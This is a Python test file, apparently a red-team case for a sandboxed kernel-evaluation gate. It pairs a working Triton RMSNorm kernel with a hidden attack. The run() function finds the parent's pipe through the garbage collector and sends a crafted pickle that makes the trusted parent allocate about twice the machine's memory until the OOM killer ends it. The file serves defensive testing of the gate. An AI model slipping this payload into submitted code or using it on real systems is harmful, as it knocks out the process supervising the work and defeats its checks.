"""Exhausts the trusted parent's memory with a message of a few hundred bytes (2026-12-08 channel
red-team pass).  ``builtins.bytearray`` is on the unpickling allow-list (protocol 2-4 pickle a
bytearray as a call of it on its bytes), but called with an int it allocates that many zeroed
bytes, which it touches.  The pickle calls it eight times with a quarter of the machine's memory
(MemTotal from /proc/meminfo) and keeps the results in a list: the parent grows to twice the
machine's memory and the kernel's OOM killer ends it (the largest process).  Expected:
GATE_TAMPERED (the parent's ``bytearray`` takes only bytes, never a size, gate/wire.py).
"""

import gc
import os
import struct
from multiprocessing.connection import Connection

import triton
import triton.language as tl


@triton.jit
def _rmsnorm_rows(x_ptr, w_ptr, y_ptr, eps, H: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, H)
    x = tl.load(x_ptr + row * H + cols).to(tl.float32)
    w = tl.load(w_ptr + cols).to(tl.float32)
    rms = 1.0 / tl.sqrt(tl.sum(x * x, axis=0) / H + eps)
    tl.store(y_ptr + row * H + cols, (x * rms * w).to(tl.bfloat16))


def _pipe_fd():
    for obj in gc.get_objects():
        if isinstance(obj, Connection) and not obj.closed and obj.writable:
            return obj.fileno()
    return None


def _frame(body):
    return (struct.pack("!i", len(body)) if len(body) < 0x7FFFFFFF else struct.pack("!iQ", -1, len(body))) + body


def _mem_total():
    with open("/proc/meminfo") as fh:
        for line in fh:
            if line.startswith("MemTotal:"):
                return int(line.split()[1]) * 1024
    return 1 << 36


def _message():
    chunk = _mem_total() // 4
    out = [b"\x80\x02]", b"(", b"cbuiltins\nbytearray\nq\x00"]          # [], MARK, GLOBAL, BINPUT 0
    for k in range(8):
        if k:
            out.append(b"h\x00")                                         # BINGET 0
        out.append(b"\x8a\x08" + chunk.to_bytes(8, "little") + b"\x85R")  # LONG1 chunk, TUPLE1, REDUCE
    out.append(b"e.")                                                    # APPENDS, STOP
    return b"".join(out)


_sent = [False]


def run(x, weight, eps, y):
    fd = _pipe_fd()
    if fd is not None and not _sent[0]:
        _sent[0] = True
        os.write(fd, _frame(_message()))
    _rmsnorm_rows[(x.shape[0],)](x, weight, y, eps, H=x.shape[1])
